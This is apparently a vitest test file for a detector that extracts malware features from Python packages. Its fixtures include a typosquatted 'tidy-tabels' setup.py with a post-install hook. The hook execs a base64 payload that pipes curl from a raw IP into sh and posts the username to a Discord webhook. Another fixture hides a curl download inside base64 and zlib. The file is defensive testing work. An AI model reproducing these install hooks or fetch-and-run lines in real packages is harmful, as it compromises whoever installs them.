import { beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, FEATURE_NAMES, initFeatures, TOKEN_BUCKETS } from '../../src/features/index.js';
import { binaryKind } from '../../src/features/files.js';
import { parseCoreMetadata } from '../../src/features/metadata.js';
import { shannonEntropy } from '../../src/features/obfuscation.js';
import { fnv1a } from '../../src/features/tokens.js';
import { PKG_INFO, viewOf } from './view.js';

beforeAll(() => initFeatures());

const BENIGN = {
  'tidy_tables-1.4.2/PKG-INFO': PKG_INFO,
  'tidy_tables-1.4.2/setup.py':
    'from setuptools import setup, find_packages\nsetup(name="tidy-tables", version="1.4.2", packages=find_packages(), install_requires=["wcwidth"])\n',
  'tidy_tables-1.4.2/tidy_tables/__init__.py': 'from .render import render\n__all__ = ["render"]\n',
  'tidy_tables-1.4.2/tidy_tables/render.py':
    'import shutil\n\ndef render(rows):\n    width = shutil.get_terminal_size().columns\n    return "\\n".join(" | ".join(map(str, r))[:width] for r in rows)\n',
  'tidy_tables-1.4.2/tests/test_render.py':
    'import subprocess\n\ndef test_cli():\n    subprocess.run(["python", "-m", "tidy_tables"])\n',
};

const PAYLOAD = Buffer.from('import os; os.system("curl http://203.0.113.9/x | sh")').toString('base64');
const MALICIOUS = {
  'tidy-tabels-1.4.2/PKG-INFO':
    'Metadata-Version: 2.1\nName: tidy-tabels\nVersion: 1.4.2\nSummary: UNKNOWN\n',
  'tidy-tabels-1.4.2/setup.py': [
    'from setuptools import setup',
    'from setuptools.command.install import install',
    'import base64, subprocess, requests',
    'class PostInstall(install):',
    '    def run(self):',
    `        exec(base64.b64decode("${PAYLOAD}"))`,
    '        requests.post("https://discord.com/api/webhooks/1/abc", data={"u": __import__("getpass").getuser()})',
    '        install.run(self)',
    'setup(name="tidy-tabels", version="1.4.2", cmdclass={"install": PostInstall})',
    '',
  ].join('\n'),
};

describe('feature vector', () => {
  it('has a fixed, unique list of names and fills every one with a finite number', () => {
    expect(new Set(FEATURE_NAMES).size).toBe(FEATURE_NAMES.length);
    const { features } = extractFeatures(viewOf(BENIGN));
    expect(Object.keys(features)).toEqual([...FEATURE_NAMES]);
    for (const value of Object.values(features)) expect(Number.isFinite(value)).toBe(true);
  });

  it('names no feature after how an archive was built (those would tell the corpora apart)', () => {
    const leaks = FEATURE_NAMES.filter((n) =>
      /pkg.?info|wheel|record|dist.?info|github|debian|timestamp|mtime|order|gitignore/i.test(n),
    );
    expect(leaks).toEqual([]);
  });

  it('gives the same vector for the same package whether or not PKG-INFO is present, when setup.py says the same', () => {
    const withSetupMeta = {
      ...BENIGN,
      'tidy_tables-1.4.2/setup.py':
        'from setuptools import setup\nsetup(name="tidy-tables", version="1.4.2", description="Format tables for terminals", author="Ada Example", author_email="ada@example.org", url="https://github.com/example/tidy-tables", license="MIT", classifiers=["Programming Language :: Python :: 3", "License :: OSI Approved :: MIT License"], install_requires=["wcwidth"])\n',
    };
    const { 'tidy_tables-1.4.2/PKG-INFO': _, ...noPkgInfo } = withSetupMeta;
    const a = extractFeatures(viewOf(withSetupMeta)).features;
    const b = extractFeatures(viewOf(noPkgInfo)).features;
    for (const name of FEATURE_NAMES.filter((n) => n.startsWith('meta.') && n !== 'meta.description_len'))
      expect([name, b[name]]).toEqual([name, a[name]]);
  });
});

describe('code features by where the code runs', () => {
  it('counts install-time process, network, dynamic code and decoding in setup.py apart from tests', () => {
    const mal = extractFeatures(viewOf(MALICIOUS)).features;
    expect(mal['code.exec.install']).toBeGreaterThan(0);
    expect(mal['code.decode.install']).toBeGreaterThan(0);
    expect(mal['code.network.install']).toBeGreaterThan(0);
    expect(mal['code.sysinfo.install']).toBe(1); // __import__('getpass').getuser() resolves to getpass.getuser
    expect(mal['install.cmdclass']).toBe(1);
    const ben = extractFeatures(viewOf(BENIGN)).features;
    expect(ben['code.process.install']).toBe(0);
    expect(ben['code.process.test']).toBe(1);
    expect(ben['install.cmdclass']).toBe(0);
  });

  it('counts rule hits early (install/import) and late, with located evidence', () => {
    const analysis = extractFeatures(viewOf(MALICIOUS));
    expect(analysis.features['rule.dynamic-code.early']).toBeGreaterThan(0);
    expect(analysis.features['rule.max_severity_early']).toBe(4);
    const hit = analysis.evidence.find((e) => e.rule === 'exec-decoded-payload');
    expect(hit?.path).toBe('tidy-tabels-1.4.2/setup.py');
    expect(hit?.line).toBe(6);
    expect(analysis.evidence[0]?.severity).toBe('critical');
    expect(extractFeatures(viewOf(BENIGN)).features['rule.max_severity_early']).toBeLessThan(3);
  });
});

describe('metadata features', () => {
  it('reads PKG-INFO fields and the description body', () => {
    const meta = parseCoreMetadata(PKG_INFO);
    expect(meta.name).toBe('tidy-tables');
    expect(meta.classifiers).toHaveLength(2);
    expect(meta.description).toMatch(/aligned tables/);
    const f = extractFeatures(viewOf(BENIGN)).features;
    expect(f['meta.email_wellformed']).toBe(1);
    expect(f['meta.url_wellformed']).toBe(1);
    expect(f['meta.license_declared']).toBe(1);
    expect(f['meta.classifiers']).toBe(2);
    expect(f['meta.description_empty']).toBe(0);
  });
  it('treats UNKNOWN as missing and flags an empty description', () => {
    const f = extractFeatures(viewOf(MALICIOUS)).features;
    expect(f['meta.email_present']).toBe(0);
    expect(f['meta.description_empty']).toBe(1);
    expect(f['meta.url_present']).toBe(0);
  });
  it('flags placeholder versions and disposable mail', () => {
    const f = extractFeatures(
      viewOf({ 'x-0.0.0/PKG-INFO': 'Name: x\nVersion: 0.0.0\nAuthor-email: a@mailinator.com\n' }),
    ).features;
    expect(f['meta.version_zero']).toBe(1);
    expect(f['meta.email_disposable']).toBe(1);
  });
});

describe('obfuscation, files and indicators', () => {
  it('measures entropy: random-looking text high, repetition low', () => {
    expect(shannonEntropy('aaaaaaaaaa')).toBe(0);
    expect(shannonEntropy(PAYLOAD)).toBeGreaterThan(4.5);
  });
  it('finds long blobs, machine names and URLs to raw IPs and webhooks', () => {
    const blob = Buffer.from(
      'x'
        .repeat(300)
        .split('')
        .map((_, i) => String.fromCharCode(33 + ((i * 7919) % 90)))
        .join(''),
    ).toString('base64');
    const f = extractFeatures(
      viewOf({
        'p-1/p/__init__.py': `_0x1a2b = "${blob}"\n_0x3c4d = 1\n_0x5e6f = 2\nurl = "http://198.51.100.7:8080/a"\nhook = "https://discord.com/api/webhooks/9/z"\n`,
      }),
    ).features;
    expect(f['obf.base64_blobs']).toBe(1);
    expect(f['obf.hex_names']).toBe(3);
    expect(f['ioc.raw_ip_urls']).toBe(1);
    expect(f['ioc.exfil_endpoints']).toBe(1);
    expect(f['ioc.urls_early']).toBe(2);
  });
  it('recognises executables by magic bytes, not by name', () => {
    expect(binaryKind(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2]))).toBe('elf');
    expect(binaryKind(new Uint8Array([0x4d, 0x5a, 0x90, 0]))).toBe('pe');
    expect(binaryKind(new TextEncoder().encode('MZ is not always a PE'))).toBe('pe');
    expect(binaryKind(new TextEncoder().encode('#!/bin/sh'))).toBeUndefined();
    const f = extractFeatures(
      viewOf({ 'p-1/p/__init__.py': '', 'p-1/p/logo.png': new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0]) }),
    ).features;
    expect(f['files.windows_binaries']).toBe(1);
    expect(f['files.binaries_not_extension']).toBe(1);
  });
  it('leaves metadata folders out of the file counts (their contents describe the build, not the code)', () => {
    const wheel = extractFeatures(
      viewOf(
        {
          'tidy_tables/__init__.py': 'x = 1\n',
          'tidy_tables-1.4.2.dist-info/METADATA': PKG_INFO,
          'tidy_tables-1.4.2.dist-info/WHEEL': 'Wheel-Version: 1.0\n',
          'tidy_tables-1.4.2.dist-info/RECORD': 'a,,\n',
        },
        'wheel',
      ),
    ).features;
    expect(wheel['files.count']).toBe(1);
    expect(wheel['meta.classifiers']).toBe(2);
  });
  it('reads a Python script that has no .py name by its shebang', () => {
    const f = extractFeatures(
      viewOf({ 'p-1/bin/tool': '#!/usr/bin/env python3\nimport os\nos.system("id")\n' }),
    ).features;
    expect(f['files.py_count']).toBe(1);
  });
});

describe('text tokens', () => {
  it('hashes tokens into a fixed number of buckets with stable FNV-1a', () => {
    expect(fnv1a('')).toBe(0x811c9dc5);
    expect(fnv1a('a')).toBe(0xe40c292c);
    const { tokens } = extractFeatures(viewOf(MALICIOUS));
    const buckets = Object.keys(tokens).map(Number);
    expect(buckets.length).toBeGreaterThan(5);
    for (const b of buckets) expect(b).toBeGreaterThanOrEqual(0);
    for (const b of buckets) expect(b).toBeLessThan(TOKEN_BUCKETS);
    const exec = fnv1a('call:exec') % TOKEN_BUCKETS;
    expect(tokens[exec]).toBeGreaterThanOrEqual(1);
  });
});

describe('hostile content', () => {
  it('never throws on undecodable bytes, huge lines or broken Python, and says what it could not read', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1/p/__init__.py': new Uint8Array([0xff, 0xfe, 0x00, 0x41, 0x0a]),
        'p-1/p/long.py': `x = "${'A'.repeat(2_000_000)}"\n`,
        'p-1/p/broken.py': 'def (:\n  exec(\n',
      }),
    );
    expect(analysis.features['text.lossy_files']).toBe(1);
    expect(analysis.features['obf.max_line_len']).toBeGreaterThan(1_000_000);
    expect(analysis.notes.join('\n')).toMatch(/not valid UTF-8/);
  });
});

describe('encoded payloads', () => {
  it('unpacks base64 and zlib layers and locates what the hidden code does at the literal', async () => {
    const { deflateSync } = await import('node:zlib');
    const hidden = 'import subprocess\nsubprocess.Popen(["curl", "-s", "http://198.51.100.4/p.sh"])\n';
    const packed = Buffer.from(deflateSync(Buffer.from(hidden))).toString('base64');
    const analysis = extractFeatures(
      viewOf({
        'pkg-1/setup.py': `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${packed}")))\nfrom setuptools import setup\nsetup(name="pkg")\n`,
      }),
    );
    expect(analysis.features['payload.decoded_python']).toBe(1);
    expect(analysis.features['code.process.install']).toBeGreaterThan(0);
    const hidden_hit = analysis.evidence.find((e) => e.message?.includes('base64+zlib-decoded'));
    expect(hidden_hit?.path).toBe('pkg-1/setup.py');
    expect(hidden_hit?.line).toBe(2);
  });
  it('leaves honest base64 data alone (an embedded PNG decodes to binary, not code)', () => {
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.alloc(120, 7),
    ]);
    const f = extractFeatures(
      viewOf({ 'pkg-1/pkg/icons.py': `ICON = "${png.toString('base64')}"\n` }),
    ).features;
    expect(f['payload.decoded_python']).toBe(0);
  });
});

describe('size features describe what installs, not how the archive was made', () => {
  it('leaves tests, docs, examples, CI and hidden folders out of the file counts, but not out of binary detection', () => {
    const base = {
      'p-1/p/__init__.py': 'x = 1\n',
      'p-1/setup.py': 'from setuptools import setup\nsetup(name="p")\n',
    };
    const plain = extractFeatures(viewOf(base)).features;
    const upstream = extractFeatures(
      viewOf({
        ...base,
        'p-1/docs/conf.py': 'project = "p"\n',
        'p-1/docs/_static/jquery.js': 'var x = 1;\n',
        'p-1/tests/test_p.py': 'def test(): pass\n',
        'p-1/.github/workflows/ci.yml': 'on: push\n',
        'p-1/examples/demo.sh': 'echo hi\n',
        'p-1/tests/data/tool.exe': new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0]),
      }),
    ).features;
    for (const name of [
      'files.count',
      'files.bytes',
      'files.py_count',
      'files.py_share',
      'files.scripts',
      'files.max_depth',
    ])
      expect([name, upstream[name]]).toEqual([name, plain[name]]);
    expect(upstream['files.windows_binaries']).toBe(1);
  });
});

describe('rule evidence reaches the model by category', () => {
  it('names no rule id among the features, so adding or renaming a rule needs no retraining', async () => {
    const { RULES, TEXT_RULES } = await import('../../src/rules/index.js');
    const { EVIDENCE_CATEGORIES } = await import('../../src/types.js');
    const categories = new Set<string>(EVIDENCE_CATEGORIES);
    const ruleIds = new Set([...RULES, ...TEXT_RULES].map((r) => r.id).filter((id) => !categories.has(id)));
    const perRule = FEATURE_NAMES.filter((n) => ruleIds.has(n.split('.')[1] ?? ''));
    expect(perRule).toEqual([]);
    for (const c of EVIDENCE_CATEGORIES)
      expect(FEATURE_NAMES).toEqual(
        expect.arrayContaining([`rule.${c}.early`, `rule.${c}.late`, `rule.${c}.early_max_severity`]),
      );
  });
});
